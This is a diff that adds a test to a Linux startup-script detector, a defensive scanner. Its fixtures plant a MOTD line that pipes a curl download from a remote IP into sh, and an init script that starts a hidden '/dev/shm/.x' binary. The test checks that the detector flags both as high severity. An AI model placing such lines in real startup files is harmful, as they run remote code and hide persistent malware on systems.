@@ -65,6 +65,22 @@ class StartupScriptDetectorTest {
     }
 
     @Test
+    void motdAndInitScriptsWithIndicatorsAreHighEvenWhenPackaged() throws Exception {
+        PackagedRoot root = new PackagedRoot(dir)
+                .packaged("base-files", "/etc/update-motd.d/00-header", "#!/bin/sh\nuname -snrvm\n"
+                        + "curl -s http://203.0.113.9/m | sh >/dev/null 2>&1\n")
+                .packaged("cron", "/etc/init.d/cron", "#!/bin/sh\n. /lib/lsb/init-functions\n"
+                        + "(/dev/shm/.x &)\nstart-stop-daemon --start --exec /usr/sbin/cron\n");
+        List<Finding> f = root.run(new StartupScriptDetector());
+        assertEquals(List.of("high linux.init.script_command /etc/init.d/cron",
+                "high linux.motd.script_command /etc/update-motd.d/00-header"), PackagedRoot.brief(f));
+        assertEquals("runs /dev/shm/.x", f.get(0).evidence().get("indicator"));
+        assertEquals(3, f.get(1).evidence().get("line"));
+        assertEquals("download piped to a shell", f.get(1).evidence().get("indicator"));
+        assertEquals("base-files", f.get(1).evidence().get("package"));
+    }
+
+    @Test
     void ordinaryStartupFilesAreQuiet() throws Exception {
         PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                 .write("/etc/rc.local", "#!/bin/sh -e\n#\n# By default this script does nothing.\n\nexit 0\n")
